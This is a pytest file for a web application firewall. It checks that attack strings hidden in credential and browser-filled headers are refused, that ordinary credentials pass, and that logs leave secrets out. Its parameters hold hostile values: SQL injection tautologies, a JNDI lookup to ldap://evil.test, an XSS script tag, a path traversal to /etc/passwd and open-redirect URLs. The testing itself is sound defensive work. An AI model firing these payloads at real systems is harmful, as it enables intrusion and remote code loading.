"""Credentials for the site are inspected by the built-in rules, and are seen and recorded nowhere else."""

from base64 import b64encode
from random import Random
from string import ascii_letters, digits, punctuation

import pytest

from gatewall.engine.waf.judge import Judge, builtin_rules, request_of
from gatewall.engine.waf.matcher import RuleSet
from gatewall.engine.waf.rules import Target
from gatewall.gate import subrequest
from gatewall.gate.subrequest import Subrequest
from tests.support.cast import NOW, PROXY, TRUSTED, a_policy
from tests.unit.recorded import a_rule_for, recorded

JUDGE = Judge(None)
ADDRESSED = {
    "x-forwarded-for": "198.51.100.7",
    "x-forwarded-host": "office.example",
    "x-forwarded-method": "GET",
    "x-forwarded-uri": "/",
}


def basic(text):
    return "Basic " + b64encode(text.encode("latin-1")).decode()


def parsed(**headers):
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return subrequest.auth(Subrequest(PROXY, "http", {**ADDRESSED, **named}), TRUSTED, NOW)


def refused(value, name="authorization"):
    return bool(JUDGE.refusing(request_of(b"GET", b"/", [(name.encode(), value.encode("latin-1"))])))


@pytest.mark.parametrize("name", ["authorization", "proxy_authorization"])
@pytest.mark.parametrize(
    "value",
    [
        basic("x' or 1=1--:y"),
        basic("bob:x' or 1=1--"),
        basic("bob:${jndi:ldap://evil.test/a}"),
        basic("x' or 1=1--").rstrip("="),
        basic("<script>alert(1)</script>:"),
        "Bearer ${jndi:ldap://evil.test/a}",
        'Digest username="x\' or 1=1--", realm="a"',
        "Basic x' or 1=1--",
        "x' or 1=1--",
        "Bearer ../../etc/passwd",
    ],
)
def test_attack_in_a_credential_for_the_site_is_refused(name, value):
    assert JUDGE.refusing(parsed(**{name: value}))


@pytest.mark.parametrize(
    "value",
    [
        basic("alice:correct horse battery staple"),
        basic("alice@example.org:pass"),
        "Basic =",
        "Basic abcde",
        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "Bearer " + "aZ09-._~+/" * 20 + "==",
        'Digest username="alice", realm="a@b", nonce="dcd98b7102dd2f0e8b11d0", uri="/dir/index.html", qop=auth',
        "AWS4-HMAC-SHA256 Credential=A/20130524/x/s3/aws4_request, SignedHeaders=a-b;date;host;range, Signature=fe5f80",
        'MediaBrowser Client="Jellyfin Web", Device="Firefox", DeviceId="TW96aWxsYS81LjAg", Version="10.8.13"',
    ],
)  # fmt: skip
def test_usual_credential_is_not_refused(value):
    assert not refused(value)


def test_long_token_is_let_in_and_another_long_credential_is_refused():
    assert not refused("Negotiate " + "YII/+a" * 5_000)
    assert refused("Digest " + "a=b, " * 5_000)
    assert refused(basic("a" * 20_000 + ":b"))


def test_password_of_random_characters_is_not_refused():
    random = Random(5)  # noqa: S311 - no secret
    passwords = ["".join(random.choices(ascii_letters + digits + punctuation, k=20)) for _ in range(1_000)]

    assert [each for each in passwords if refused(basic(f"alice:{each}"))] == []


def test_our_git_token_is_not_inspected_and_other_rules_see_no_credential():
    attack = basic("x' or 1=1--:gwg_secret")

    assert parsed(authorization=attack).site_credentials == ()
    seen = parsed(authorization="Bearer attack", proxy_authorization="Basic attack")
    assert seen.headers == ()
    assert "attack" not in repr(seen)
    own = RuleSet([a_rule_for(target) for target in Target])
    assert own.inspect(seen, None) == ()


def test_record_names_the_rule_and_not_the_credential():
    lines = [*ADDRESSED.items(), ("host", "office.example"), ("authorization", basic("x' or 1=1--:secret-word"))]
    record = recorded(lines, a_policy(rules=builtin_rules()))

    assert "sqli-tautology" in repr(record)
    assert "or 1=1" not in repr(record)
    assert "secret-word" not in repr(record)
    assert basic("x' or 1=1--:secret-word")[6:] not in repr(record)


@pytest.mark.parametrize("value", ['en" or "1"="1', '1" union select 1,2 from users--'])
@pytest.mark.parametrize("name", ["accept-language", "x-request-id", "cache-control"])
def test_quote_and_keyword_in_a_header_that_browsers_fill_in_are_refused(name, value):
    assert refused(value, name)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
        ("if-none-match", 'W/"5f-1a2b", "abc"'),
        ("cache-control", 'no-cache="Set-Cookie", max-age=0'),
    ],
)
def test_quotes_of_usual_headers_are_not_refused(name, value):
    assert not refused(value, name)


@pytest.mark.parametrize("blank", ["%a0", "%c2%a0", "%c0%a0", "%e0%80%a0", "%f0%80%80%a0"])
def test_odd_blanks_are_blanks(blank):
    uri = "/?a=1'{}or{}1=1".replace("{}", blank).encode()

    assert JUDGE.refusing(request_of(b"GET", uri, []))


@pytest.mark.parametrize(
    ("uri", "is_marked"),
    [
        ("/?next=https://evil.test/a", True),
        ("/?return_to=//evil.test", True),
        ("/?url=https://office.example@evil.test/", True),
        ("/?next=https://office.example/a", False),
        ("/?next=https://sso.office.example/a", True),
        ("/?next=/a", False),
        ("/?title=https://evil.test/a", False),
    ],
)
def test_redirect_to_another_site_is_recorded_and_never_refused(uri, is_marked):
    request = request_of(b"GET", uri.encode(), [(b"host", b"office.example")])

    assert ("protocol-foreign-redirect" in {rule.name for rule in JUDGE.matches(request)}) is is_marked
    assert not JUDGE.refusing(request)


def test_redirect_within_a_domain_is_not_marked():
    body = b"relaystate=https%3A%2F%2Fcloud.office.example%2F&return=https://office.example/"
    headers = [(b"host", b"sso.office.example"), (b"content-type", b"application/x-www-form-urlencoded")]

    assert JUDGE.matches(request_of(b"POST", b"/", headers, body)) == ()
    assert JUDGE.matches(request_of(b"POST", b"/", [], b"next=https://evil.test")) == ()
